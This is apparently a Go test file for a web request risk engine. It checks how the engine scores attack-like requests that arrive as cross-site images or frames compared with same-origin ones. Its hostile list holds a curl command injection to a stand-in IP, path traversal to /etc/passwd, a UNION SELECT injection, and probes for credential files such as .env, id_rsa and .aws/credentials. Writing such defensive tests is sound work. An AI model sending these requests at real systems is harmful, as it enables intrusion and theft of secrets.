package risk_test

import (
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/kelisim/kelisim/geo"
	"github.com/kelisim/kelisim/risk"
	"github.com/kelisim/kelisim/visit"
)

// browse is a request of a browser at alice's address, for a kind of thing that a page of some site asks for.
func browse(e *risk.Engine, after time.Duration, target, dest, site string, status int) risk.Verdict {
	r := httptest.NewRequest("GET", "https://example.org/", nil)
	r.RequestURI, r.RemoteAddr = target, alice.String()+":1234"
	u := *r.URL
	u.Path = target
	r.URL = &u
	r.Header = http.Header{
		"User-Agent": {chrome}, "Accept": {"text/html,*/*"}, "Accept-Language": {"kk"}, "Accept-Encoding": {"gzip, br"},
		"Sec-Ch-Ua": {`"Chromium";v="146"`}, "Sec-Ch-Ua-Platform": {`"Windows"`}, "Sec-Fetch-Dest": {dest}, "Sec-Fetch-Site": {site},
	}
	var q risk.Request
	hit := visit.Capture(r, visit.TrustDirect, noon.Add(after))
	q.Capture(r, &hit, &geo.Location{}, true)
	v := e.Assess(&q)
	if after, changed := e.Observe(&q, status); changed {
		return after
	}
	return v
}

// TestNobodyIsFramed: pictures and frames of another site's page that ask for what attackers ask for tell nothing of who looks at that page;
// and who says so of all requests is judged by them all the same.
func TestNobodyIsFramed(t *testing.T) {
	t.Parallel()
	hostile := []string{"/?q=$(curl%20http://192.0.2.1/a)", "/../../../../etc/passwd", "/?id=1+UNION+SELECT+password", "/.env", "/.git/config", "/wp-config.php.bak", "/id_rsa", "/.aws/credentials", "/.htpasswd", "/backup.sql"}
	for _, dest := range []string{"image", "iframe", "empty"} {
		for site, framed := range map[string]bool{"cross-site": false, "same-origin": true} {
			e := engine(t)
			var last risk.Verdict
			for i, target := range hostile {
				last = browse(e, time.Duration(i)*100*time.Millisecond, target, dest, site, 404)
			}
			if last.Action != risk.ActionDeny {
				t.Errorf("%s, %s: the last of the attack: %v %v", dest, site, last.Action, codesOf(last))
			}
			if v := browse(e, 2*time.Second, "/", "document", "none", 200); (v.Action > risk.ActionLog) != framed {
				t.Errorf("%s, %s: a page afterwards: %v %v", dest, site, v.Action, codesOf(v))
			}
			if v := e.Standing(alice, noon.Add(2*time.Second)); (v.Action > risk.ActionLog) != framed {
				t.Errorf("%s, %s: standing: %v", dest, site, v.Action)
			}
			if v := browse(e, 3*time.Second, "/logo.png", dest, site, 200); v.Action != risk.ActionDeny {
				t.Errorf("%s, %s: the next such request: %v", dest, site, v.Action)
			}
			if v := do(e, step{after: 3 * time.Second}); v.Who != last.Who {
				t.Error("an admin sees two names of one address")
			}
		}
	}
}
